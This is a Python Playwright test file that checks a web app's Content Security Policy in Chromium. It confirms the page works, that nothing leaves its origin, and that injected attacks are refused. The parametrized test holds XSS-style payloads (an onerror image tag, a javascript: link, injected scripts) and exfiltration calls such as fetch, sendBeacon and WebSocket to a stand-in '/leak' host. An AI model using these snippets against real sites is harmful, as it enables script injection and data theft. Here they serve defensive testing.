"""The page in Chromium under its policy: it works, nothing is refused to it, and nothing leaves its origin."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Request, expect, sync_playwright

from tests.app_process import AppProcess
from tests.browser.chromium import FLAGS, executable
from tests.browser.person import Person

WATCH = """document.addEventListener("securitypolicyviolation", (event) =>
    console.error("refused by the policy:", event.violatedDirective, event.blockedURI, event.sample));"""
ASKED_FOR_BY_GRADIO = ("/monitoring/summary", "/gradio_api/mcp/schema")
"""Its API page asks for these two and lives without them."""


@pytest.fixture(scope="module")  # its event loop must end before async tests begin
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable(), args=FLAGS)
        yield browser
        browser.close()


TOOLS = """const make = (name, values) => Object.assign(document.createElement(name), values);
const add = (html) => document.body.insertAdjacentHTML("beforeend", html);"""


class Watched:
    """A tab whose complaints and requests are kept."""

    def __init__(self, page: Page, app: AppProcess) -> None:
        self.page, self.url = page, app.url
        self.complaints: list[str] = []
        self.elsewhere: list[str] = []
        page.add_init_script(WATCH)
        page.on("console", lambda message: self._hear(message.type, message.text, message.location["url"]))
        page.on("request", self._see)

    def _hear(self, kind: str, text: str, url: str) -> None:
        if kind == "error" and not url.endswith(ASKED_FOR_BY_GRADIO):
            self.complaints.append(f"{text} ({url})")

    def _see(self, request: Request) -> None:
        if not request.url.startswith((self.url, "data:", "blob:")):
            self.elsewhere.append(request.url)


@pytest.fixture
def watched(browser: Browser, app: AppProcess) -> Iterator[Watched]:
    page = browser.new_page()
    yield Watched(page, app)
    page.context.close()


def test_the_page_works_and_nothing_leaves_its_origin(watched: Watched) -> None:
    person = Person(watched.page, watched.url).open()
    person.generate("under the policy")
    person.sees_pictures(1)
    person.tiles.first.get_by_role("button").first.click()
    expect(watched.page.get_by_role("dialog")).to_be_visible()
    watched.page.keyboard.press("Escape")
    watched.page.get_by_role("button", name="Use via API").click()
    expect(watched.page.get_by_text("API documentation")).to_be_visible()
    for language in ("JavaScript", "cURL", "Python"):
        watched.page.get_by_text(language, exact=True).first.click()
    watched.page.goto(f"{watched.url}/?view=settings")
    person.generate_button.wait_for()
    assert person.errors == []
    assert watched.complaints == []
    assert watched.elsewhere == []


@pytest.mark.parametrize(
    ("attempt", "told"),
    [
        (
            "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
            "script-src",
        ),
        ("add('<img src=x onerror=\"window.ran = 1\">')", "script-src-attr"),
        ("make('a', {href: 'javascript:window.ran = 1'}).click()", "script-src"),
        ("fetch('http://127.0.0.1:9/leak').catch(() => 0)", "connect-src"),
        ("navigator.sendBeacon('http://127.0.0.1:9/leak')", "connect-src"),
        ("new WebSocket('ws://127.0.0.1:9/leak')", "connect-src"),
        ("new Image().src = 'http://127.0.0.1:9/leak.png'", "img-src"),
        (
            "add('<iframe src=\"http://127.0.0.1:9/\"></iframe>')",
            "frame-src",
        ),
        ("add('<object data=\"/static/x\"></object>')", "object-src"),
        ("new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"),
        ("import('http://127.0.0.1:9/x.js').catch(() => 0)", "script-src"),
    ],
)
def test_what_an_intruder_would_try_is_refused(watched: Watched, attempt: str, told: str) -> None:
    watched.page.goto(watched.url)
    watched.page.evaluate(f"() => {{ {TOOLS} try {{ {attempt}; }} catch {{ }} }}")
    for _ in range(50):
        if any(told in complaint for complaint in watched.complaints):
            break
        watched.page.wait_for_timeout(50)
    assert any(told in complaint for complaint in watched.complaints), watched.complaints
    assert watched.page.evaluate("window.ran") is None
